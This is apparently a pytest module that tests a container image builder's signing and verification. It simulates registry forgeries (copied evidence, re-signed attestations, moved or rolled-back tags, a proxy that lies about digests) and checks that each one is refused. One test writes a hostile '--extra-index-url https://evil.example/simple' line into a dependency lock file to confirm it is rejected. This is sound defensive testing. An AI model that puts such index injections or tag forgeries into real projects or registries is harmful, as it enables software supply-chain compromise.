"""Vetted means verifiable, for real: one CPU runtime image built, staged with signed evidence
(`builder build --stage --key`), published and signed (`builder publish --key`) with a key from
`builder keygen`, then `builder verify --key` on its tag and digest — and each forgery someone
with push rights to the registry could try is refused (exit 1, one line, no traceback, no tag
moved).

The image is the session's (fixtures_published: built, smoked and SBOM'd once), staged and
published again by the same key into a registry of this module's own (fixtures_published.restage),
where the forgeries are written straight into the registry with the project's own registry
client, as an attacker would.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import re
import shutil
import subprocess
import threading
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fixtures_published import (
    ALIAS,
    CPU,
    PASSWORD,
    Publication,
    own_registry,
    restage,
)
from helpers import Saved, fake_image, real_labels, run_builder

from builder.core import keypair, labels, oci, sign

pytestmark = pytest.mark.docker

ROOT = Path(__file__).resolve().parents[2]


# ---- the published image -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def env(shared_publication: Publication,
        tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The session's image (fixtures_published) staged and published by the same key into a
    registry of this module's own (its forgeries stay there), gzip only; someone else's key
    pair."""
    tmp = tmp_path_factory.mktemp("signing")
    with own_registry(tmp) as addr:
        own = restage(shared_publication, tmp, addr, compression=["gzip"])
        (tmp / "other").mkdir()
        run_builder("keygen", "--out", str(tmp / "other"), env=own.env)
        yield {"matrix": own.matrix, "addr": addr, "tmp": tmp, "env": own.env, "key": own.key,
               "pub": own.pub, "other_key": tmp / "other" / "cosign.key", "own": own,
               "repo": own.repository, "staging": own.staging}


def builder(env: dict[str, Any], *args: str, check: bool = True
            ) -> subprocess.CompletedProcess[str]:
    return run_builder(*args, matrix=env["matrix"], env=env["env"], check=check)


def verify(env: dict[str, Any], ref: str, *extra: str) -> subprocess.CompletedProcess[str]:
    return run_builder("verify", ref, "--key", str(env["pub"]), *extra, env=env["env"],
                       check=False)


def publish(env: dict[str, Any], *extra: str, check: bool = True
            ) -> subprocess.CompletedProcess[str]:
    return builder(env, "publish", "--select", f"id={CPU}", "--key", str(env["key"]),
                   "--manifest", str(env["tmp"] / "published.json"), *extra, check=check)


@pytest.fixture(scope="module")
def published(env: dict[str, Any]) -> dict[str, Any]:
    """The publication (signed digest) of what `build --stage --key` staged (signed evidence)."""
    own = env["own"]
    assert re.fullmatch(rf"{env['addr']}/{env['staging']}@sha256:[0-9a-f]{{64}}",
                        own.built["message"])
    assert own.record["digest"] == own.staged
    return {**own.record, "staged": own.staged}


def refused(result: subprocess.CompletedProcess[str], reason: str) -> str:
    """Exit 1 with one `error:` line naming `reason`, no traceback; returns that line."""
    assert result.returncode == 1, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    lines = [x for x in result.stderr.splitlines() if x.startswith("error: ")]
    assert lines, result.stderr
    text = result.stdout + result.stderr
    assert re.search(reason, text), text
    return lines[0]


def not_promoted(result: subprocess.CompletedProcess[str], reason: str) -> str:
    """Refused naming `reason` — or, since the registry is the record, `already-published`:
    the content hash is published (signed) already, so the forged staging is never looked at
    (exit 0, nothing moves; callers check the tags). Returns the line that says which."""
    if result.returncode == 0 and "already-published" in result.stdout:
        return next(x for x in result.stdout.splitlines() if "already-published" in x)
    return refused(result, reason)


def tag_digests(env: dict[str, Any], pub: dict[str, Any]) -> dict[str, str | None]:
    reg = oci.Registry(env["addr"])
    return {tag: (d.digest if (d := reg.head(env["repo"], tag)) else None) for tag in pub["tags"]}


@pytest.fixture
def saved(env: dict[str, Any]) -> Iterator[Saved]:
    keep = Saved(env["addr"])
    yield keep
    keep.restore()


# ---- the real thing ------------------------------------------------------------------------------


def test_verify_key_on_the_published_tag_and_digest(env, published) -> None:
    floating = f"{env['addr']}/{env['repo']}:{published['floating_tag']}"
    for ref in (published["reference"], floating):
        result = verify(env, ref, "--json")
        assert result.returncode == 0, result.stdout + result.stderr
        checks = {c["what"]: c for c in json.loads(result.stdout)["checks"]}
        for what in ("signature", "attestation sbom", "attestation smoke",
                     "attestation provenance", "smoke", "sbom", "provenance", "labels"):
            assert checks[what]["status"] == "ok", checks[what]
        assert checks["signature"]["detail"].startswith("cosign signature over")
    text = verify(env, published["reference"]).stdout
    print(text)  # the table a platform team reads
    unchecked = run_builder("verify", published["reference"], env=env["env"], check=False)
    assert unchecked.returncode == 1
    assert unchecked.stderr.strip().splitlines()[0].startswith(
        "error: signature: signature not checked: give --key cosign.pub")
    unsigned = run_builder("verify", published["reference"], "--contents-only", env=env["env"],
                           check=False)
    assert unsigned.returncode == 0
    assert "unsigned: contents only" in unsigned.stdout
    assert not re.search(r"signature\s+ok", unsigned.stdout)


def test_the_signature_is_cosigns_layout(env, published) -> None:
    """What `cosign verify --key` reads: `sha256-<hex>.sig`, a simple-signing layer with its
    signature annotation, over the exact digest, for the vetted repository."""
    reg = oci.Registry(env["addr"])
    body, _ = reg.manifest(env["repo"], sign.sig_tag(published["digest"]))
    [layer] = json.loads(body)["layers"]
    assert layer["mediaType"] == "application/vnd.dev.cosign.simplesigning.v1+json"
    payload = json.loads(reg.blob(env["repo"], layer["digest"]))
    assert payload["critical"] == {
        "identity": {"docker-reference": f"{env['addr']}/{env['repo']}"},
        "image": {"docker-manifest-digest": published["digest"]},
        "type": "cosign container image signature"}
    assert set(layer["annotations"]) == {"dev.cosignproject.cosign/signature"}
    body, _ = reg.manifest(env["repo"], sign.att_tag(published["digest"]))
    types = {x["annotations"]["predicateType"] for x in json.loads(body)["layers"]}
    assert types == set(sign.ATTESTED.values())  # the required ones, the audit, the .sig copy


# ---- forgeries: publish refuses ------------------------------------------------------------------


def test_forged_staged_image_with_copied_evidence_is_refused(env, published, saved) -> None:
    reg = oci.Registry(env["addr"])
    before = tag_digests(env, published)
    staging, real = env["staging"], published["staged"]
    forged = fake_image(reg, staging, real_labels(reg, staging, real))
    for kind in ("sbom", "smoke"):  # the evidence, copied beside it
        reg.push_artifact(staging, oci.Descriptor(forged, oci.OCI_MANIFEST, 1),
                          "application/json", reg.fetch_artifact(staging, real, kind),
                          kind=kind, title=kind)
    for suffix in ("att", "sig"):  # and the real digest's signed attestations
        found = reg.manifest(staging, oci.artifact_tag(real, suffix))
        if found:
            reg.put_manifest(staging, oci.artifact_tag(forged, suffix), found[0], oci.OCI_MANIFEST)
    saved.keep(staging, published["hash_tag"])
    reg.tag(staging, forged, published["hash_tag"])
    # The registry is the record: this content hash is published already (signed by the
    # trusted key), so the forgery under its staging tag is never promoted.
    result = publish(env, check=False)
    assert result.returncode == 0 and "already-published" in result.stdout, result.stdout
    print(next(x for x in result.stdout.splitlines() if "already" in x))
    assert tag_digests(env, published) == before


def test_evidence_re_signed_with_another_key_is_refused(env, published, saved) -> None:
    reg = oci.Registry(env["addr"])
    other = keypair.decrypt_private(env["other_key"].read_bytes(), "other", PASSWORD.encode())
    before = tag_digests(env, published)
    # At staging: publish trusts only our key.
    saved.keep(env["staging"], sign.att_tag(published["staged"]))
    report = json.loads(reg.fetch_artifact(env["staging"], published["staged"], "smoke"))
    sign.attest(reg, env["staging"], published["staged"], other, "smoke", report)
    print(not_promoted(publish(env, check=False), "does not verify against the trusted key"))
    assert tag_digests(env, published) == before
    # In the vetted repository: verify trusts only our key.
    saved.keep(env["repo"], sign.att_tag(published["digest"]))
    doc = json.loads(reg.fetch_artifact(env["repo"], published["digest"], "sbom"))
    sign.attest(reg, env["repo"], published["digest"], other, "sbom", doc)
    print(refused(verify(env, published["reference"]), "attestation sbom: its signature does "
                  "not verify"))


def test_a_smoke_report_with_no_checks_is_refused_even_when_signed(env, published, saved) -> None:
    reg = oci.Registry(env["addr"])
    ours = keypair.decrypt_private(env["key"].read_bytes(), "ours", PASSWORD.encode())
    before = tag_digests(env, published)
    report = json.loads(reg.fetch_artifact(env["staging"], published["staged"], "smoke"))
    empty = {**report, "checks": []}
    saved.keep(env["staging"], sign.att_tag(published["staged"]))
    saved.keep(env["staging"], oci.artifact_tag(published["staged"], "smoke"))
    staged = oci.Descriptor(published["staged"], oci.OCI_MANIFEST, 1)
    reg.push_artifact(env["staging"], staged, "application/json", json.dumps(empty).encode(),
                      kind="smoke", title="smoke")
    sign.attest(reg, env["staging"], published["staged"], ours, "smoke", empty)
    print(not_promoted(publish(env, check=False), "lacks required checks: env, cuda"))
    assert tag_digests(env, published) == before


# ---- forgeries: verify refuses -------------------------------------------------------------------


def test_unvetted_image_wearing_the_vetted_signature_is_refused(env, published) -> None:
    reg = oci.Registry(env["addr"])
    fake = fake_image(reg, env["repo"], real_labels(reg, env["repo"], published["digest"]))
    for suffix in ("sig", "att"):
        body, _ = reg.manifest(env["repo"], oci.artifact_tag(published["digest"], suffix))
        reg.put_manifest(env["repo"], oci.artifact_tag(fake, suffix), body, oci.OCI_MANIFEST)
    line = refused(verify(env, f"{env['addr']}/{env['repo']}@{fake}"),
                   f"it signs {published['digest']}, not {fake}")
    print(line)


def test_floating_tag_moved_to_another_digest_is_refused(env, published, saved) -> None:
    reg = oci.Registry(env["addr"])
    fake = fake_image(reg, env["repo"], real_labels(reg, env["repo"], published["digest"]))
    floating = published["floating_tag"]
    saved.keep(env["repo"], floating)
    reg.tag(env["repo"], fake, floating)
    print(refused(verify(env, f"{env['addr']}/{env['repo']}:{floating}"),
                  "signature: published unsigned: no signature"))


def test_sbom_replaced_after_signing_is_refused(env, published, saved) -> None:
    reg = oci.Registry(env["addr"])
    digest = published["digest"]
    doc = json.loads(reg.fetch_artifact(env["repo"], digest, "sbom"))
    doc["components"] = doc["components"][:1]
    saved.keep(env["repo"], oci.artifact_tag(digest, "sbom"))
    reg.push_artifact(env["repo"], reg.head(env["repo"], digest), "application/vnd.cyclonedx+json",
                      json.dumps(doc).encode(), kind="sbom", title="sbom.cdx.json")
    print(refused(verify(env, published["reference"]),
                  "the attached sbom differs from its signed attestation"))


class LyingRegistry(http.server.BaseHTTPRequestHandler):
    """Forwards to the real registry, but answers one digest with another manifest's bytes."""

    upstream = ""
    lie: tuple[str, bytes] = ("", b"")

    def do_GET(self) -> None:
        if self.path.endswith(f"/manifests/{self.lie[0]}"):
            self._answer(200, {"Content-Type": oci.OCI_MANIFEST}, self.lie[1])
            return
        request = urllib.request.Request(self.upstream + self.path,
                                         headers={"Accept": self.headers.get("Accept", "*/*")})
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                self._answer(response.status, dict(response.headers), response.read())
        except urllib.error.HTTPError as exc:
            self._answer(exc.code, dict(exc.headers), exc.read())

    def do_HEAD(self) -> None:
        self.do_GET()

    def _answer(self, status: int, headers: dict[str, str], body: bytes) -> None:
        self.send_response(status)
        for name in ("Content-Type", "Docker-Content-Digest"):
            if name in headers:
                self.send_header(name, headers[name])
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        pass


def test_a_registry_answering_a_digest_with_other_bytes_is_refused(env, published) -> None:
    reg = oci.Registry(env["addr"])
    fake = fake_image(reg, env["repo"], real_labels(reg, env["repo"], published["digest"]))
    LyingRegistry.upstream = f"http://{env['addr']}"
    LyingRegistry.lie = (published["digest"], reg.manifest(env["repo"], fake)[0])
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), LyingRegistry)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        proxy = f"127.0.0.1:{server.server_address[1]}"
        line = refused(verify(env, f"{proxy}/{env['repo']}@{published['digest']}"),
                       rf"hash to {fake}, not {published['digest']}: refused")
        print(line)
    finally:
        server.shutdown()


def test_a_hand_edited_lock_line_is_refused(env, tmp_path) -> None:
    """An extra index slipped into a lock (its recorded hash updated too) stops validate and
    build before anything is installed."""
    locks = tmp_path / "locks"
    shutil.copytree(ROOT / "locks", locks)
    txt, js = locks / f"{CPU}.txt", locks / f"{CPU}.json"
    txt.write_text(txt.read_text().replace(
        "--find-links https://download.pytorch.org/whl/cpu/torch/\n",
        "--find-links https://download.pytorch.org/whl/cpu/torch/\n--extra-index-url https://evil.example/simple\n"))
    meta = json.loads(js.read_text())
    meta["text_sha256"] = hashlib.sha256(txt.read_bytes()).hexdigest()
    js.write_text(json.dumps(meta))
    for command in ("validate", "build"):
        result = builder(env, command, "--select", f"id={CPU}", "--locks", str(locks),
                         check=False)
        print(refused(result, rf"{txt}:3: option `--extra-index-url https://evil\.example"))


# ---- issue 32: every tag checked against what was signed; nothing unverified signed -----------


def ours(env: dict[str, Any]) -> keypair.SigningKey:
    return keypair.decrypt_private(env["key"].read_bytes(), "ours", PASSWORD.encode())


def other_variant(env: dict[str, Any], published: dict[str, Any], *, dated: str = "",
                  flavor: str = "slim") -> tuple[str, list[str]]:
    """What publish signs for another variant (here a small image with that variant's labels,
    signed by the pipeline's key with that variant's tags, as publish would): its digest and
    its signed tags. `flavor` = runtime and a `dated` tag: an older publication of this one."""
    reg = oci.Registry(env["addr"])
    found = real_labels(reg, env["repo"], published["digest"])
    floating = published["floating_tag"].replace("-runtime", f"-{flavor}")
    found[labels.FLAVOR] = flavor
    digest = fake_image(reg, env["repo"], found)
    tags = [dated or f"{floating}-20260101", "build-" + digest[7:27], floating]
    sign.sign_image(reg, env["repo"], digest, ours(env),
                    sign.tag_annotations(found.get(labels.VARIANT, floating), tags))
    return digest, tags


def test_the_genuine_image_verifies_by_floating_dated_build_and_alias_tag(env, published) -> None:
    assert ALIAS in published["tags"]
    reg = oci.Registry(env["addr"])
    body, _ = reg.manifest(env["repo"], sign.sig_tag(published["digest"]))
    payload = json.loads(reg.blob(env["repo"], json.loads(body)["layers"][0]["digest"]))
    assert sign.signed_tags(payload["optional"]) == set(published["tags"])
    assert payload["optional"]["variant"] == CPU
    for tag in (published["floating_tag"], published["dated_tag"], published["hash_tag"], ALIAS):
        result = verify(env, f"{env['addr']}/{env['repo']}:{tag}", "--json")
        assert result.returncode == 0, result.stdout + result.stderr
        checks = {c["what"]: c for c in json.loads(result.stdout)["checks"]}
        assert checks["tag signed"]["status"] == "ok", checks
        print(f"verify --key …:{tag}: exit 0; {checks['tag signed']['detail']}")


def test_build_tag_moved_to_another_signed_digest_is_refused(env, published, saved) -> None:
    reg = oci.Registry(env["addr"])
    digest, _ = other_variant(env, published)
    saved.keep(env["repo"], published["hash_tag"])
    reg.tag(env["repo"], digest, published["hash_tag"])
    print(refused(verify(env, f"{env['addr']}/{env['repo']}:{published['hash_tag']}"),
                  rf"tag signed: `{published['hash_tag']}` is not among the tags signed"))


def test_a_cuda_named_tag_on_the_cpu_image_is_refused(env, published) -> None:
    reg = oci.Registry(env["addr"])
    cuda_named = "2.13.0-py3.11-cuda12.8-cudnn9-runtime"
    reg.tag(env["repo"], published["digest"], cuda_named)
    result = verify(env, f"{env['addr']}/{env['repo']}:{cuda_named}", "--json")
    print(refused(result, f"`{cuda_named}` is not among the tags signed"))
    checks = {c["what"]: c for c in json.loads(result.stdout)["checks"]}
    assert "accelerator cuda ≠ label 'cpu'; cuda 12.8 ≠ label ''" in checks["tag"]["detail"]


def test_a_floating_tag_on_a_signed_index_of_another_variant_is_refused(env, published,
                                                                        saved) -> None:
    """The index lists the genuine (signed, attested) manifest, and is itself validly signed
    — for another variant's tags: the index branch checks the tag too."""
    from builder.model import platforms

    reg = oci.Registry(env["addr"])
    desc = reg.head(env["repo"], published["digest"])
    doc = platforms.index_document([platforms.PlatformManifest(platforms.get("linux/amd64"),
                                                               desc)], {})
    index = reg.push_index(env["repo"], doc).digest
    slim = published["floating_tag"].replace("-runtime", "-slim")
    sign.sign_image(reg, env["repo"], index, ours(env),
                    sign.tag_annotations(slim, [slim, f"{slim}-20260101"]))
    floating = published["floating_tag"]
    saved.keep(env["repo"], floating)
    reg.tag(env["repo"], index, floating)
    result = verify(env, f"{env['addr']}/{env['repo']}:{floating}")
    print(refused(result, f"`{floating}` is not among the tags signed for {index[:19]}"))
    assert re.search(r"signature\s+ok", result.stdout)  # a valid signature, of other tags


def test_an_alias_moved_to_another_variant_is_refused(env, published, saved) -> None:
    reg = oci.Registry(env["addr"])
    digest, _ = other_variant(env, published)
    saved.keep(env["repo"], ALIAS)
    reg.tag(env["repo"], digest, ALIAS)
    print(refused(verify(env, f"{env['addr']}/{env['repo']}:{ALIAS}"),
                  f"`{ALIAS}` is not among the tags signed"))


def test_the_floating_tag_rolled_back_to_the_previous_signed_publication_is_reported(
        env, published, saved) -> None:
    reg = oci.Registry(env["addr"])
    floating = published["floating_tag"]
    older = f"{floating}-20200101"
    previous, _ = other_variant(env, published, dated=older, flavor="runtime")
    reg.tag(env["repo"], previous, older)  # the previous publication, as it was tagged then
    for tag in (floating, ALIAS):
        saved.keep(env["repo"], tag)
    sign.sign_image(reg, env["repo"], previous, ours(env), sign.tag_annotations(
        CPU, [older, floating, ALIAS]))
    for tag in (floating, ALIAS):
        reg.tag(env["repo"], previous, tag)
        print(refused(verify(env, f"{env['addr']}/{env['repo']}:{tag}"),
                      rf"tag rollback: `{tag}` is rolled back: it points at the publication of "
                      rf"`{older}`, older than the latest dated publication "
                      rf"`{published['dated_tag']}`"))


def test_forged_staging_published_unsigned_is_never_signed(env, published, saved) -> None:
    """The forgery of issue 32: a fake image under the staging content tag with the real
    labels, a copied SBOM and a smoke report re-pointed at it, no attestation. With a key and
    --unsigned, publish refuses before anything moves; with --unsigned alone it is never
    promoted (its content hash is published already) and nothing is signed. An image published
    without a signature fails `verify --key` as `published unsigned`
    (test_floating_tag_moved_to_another_digest_is_refused)."""
    reg = oci.Registry(env["addr"])
    staging, real = env["staging"], published["staged"]
    forged = fake_image(reg, staging, real_labels(reg, staging, real))
    config = json.loads(reg.manifest(staging, forged)[0])["config"]["digest"]
    report = json.loads(reg.fetch_artifact(staging, real, "smoke"))
    report["image"]["id"] = config
    target = oci.Descriptor(forged, oci.OCI_MANIFEST, 1)
    reg.push_artifact(staging, target, "application/json", json.dumps(report).encode(),
                      kind="smoke", title="smoke")
    reg.push_artifact(staging, target, "application/json",
                      reg.fetch_artifact(staging, real, "sbom"), kind="sbom", title="sbom")
    saved.keep(staging, published["hash_tag"])
    reg.tag(staging, forged, published["hash_tag"])
    before = tag_digests(env, published)
    both = builder(env, "publish", "--select", f"id={CPU}", "--key", str(env["key"]),
                   "--unsigned", "--manifest", str(env["tmp"] / "forged.json"), check=False)
    assert both.returncode == 2 and "Traceback" not in both.stderr, both.stderr
    print(both.stderr.splitlines()[0])
    assert both.stderr.startswith("error: --unsigned with a signing key")
    assert tag_digests(env, published) == before
    assert reg.head(env["repo"], sign.sig_tag(forged)) is None
    alone = builder(env, "publish", "--select", f"id={CPU}", "--unsigned",
                    "--manifest", str(env["tmp"] / "forged.json"), check=False)
    # its content hash is published (the registry is the record): never promoted, nothing signed
    assert alone.returncode == 0 and "already-published" in alone.stdout, alone.stdout
    print(next(x for x in alone.stdout.splitlines() if "already" in x))
    assert tag_digests(env, published) == before
    assert reg.head(env["repo"], sign.sig_tag(forged)) is None
    assert reg.head(env["repo"], forged) is None
